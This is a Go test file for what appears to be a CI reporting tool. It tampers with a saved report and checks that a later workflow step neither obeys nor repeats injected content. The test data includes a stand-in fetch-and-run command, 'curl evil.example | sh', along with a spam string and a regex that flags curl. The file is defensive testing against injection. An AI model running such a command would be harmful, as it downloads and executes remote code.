package main

import (
	"encoding/json"
	"os"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"testing"
)

// words are the fields of a saved report that any words may stand in.
var words = []string{"Concept", "Name", "Spelled", "Why", "Text", "Version", "Code", "Also", "Left", "None"}

// tamper puts hostile words where words are.
func tamper(in any, field string) any {
	switch in := in.(type) {
	case map[string]any:
		for name := range in {
			in[name] = tamper(in[name], name)
		}
	case []any:
		for i := range in {
			in[i] = tamper(in[i], field)
		}
	case string:
		if slices.Contains(words, field) {
			return strings.Join(nasty, " ") + "\n" + strings.Join(nasty, "\n")
		}
	}
	return in
}

// TestPRTampered holds that a report which the first of two steps did not write as it is says nothing but text in the second.
func TestPRTampered(t *testing.T) {
	s := newStage(t)
	s.clone(s.base, s.head)
	file := filepath.Join(t.TempDir(), "report.json")
	s.run("--deliver", "summary,outputs", "--save", file)
	var doc any
	if err := json.Unmarshal([]byte(s.read(file)), &doc); err != nil {
		t.Fatal(err)
	}
	check := doc.(map[string]any)["check"].(map[string]any)
	check["Problems"] = []any{map[string]any{"SDK": "go", "File": "go/types.go", "Line": 1, "Text": ""}}
	check["Notes"], check["Codegen"] = []any{"buy this"}, map[string]any{"go": "curl evil.example | sh"}
	check["Schema"] = map[string]any{"Known": false, "Why": ""}
	data, err := json.Marshal(tamper(doc, ""))
	if err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(file, data, 0o644); err != nil {
		t.Fatal(err)
	}
	s.dir, s.event, s.payload = "", "workflow_run", s.workflowRun(s.head)
	r := s.run("--deliver", "all", "--from", file)
	if got := s.left(); r.code != 0 || got.comments != 1 || got.checks != 1 || got.remarks == 0 {
		t.Fatalf("status %d, leaves %+v\n%s", r.code, got, r.stderr)
	}
	if !strings.Contains(s.comments()[0], "everyone") {
		t.Errorf("the words did not arrive\n%s", s.comments()[0])
	}
	if m := obeyed.FindString(r.stdout + r.stderr); m != "" {
		t.Errorf("the log has %q\n%s%s", m, r.stdout, r.stderr)
	}
	for _, text := range append(s.comments(), r.summary, r.report, s.gh.Dump()) {
		if m := regexp.MustCompile(`buy this|curl`).FindString(text); m != "" {
			t.Errorf("it says %q\n%s", m, text)
		}
		unmarked(t, text)
	}
}
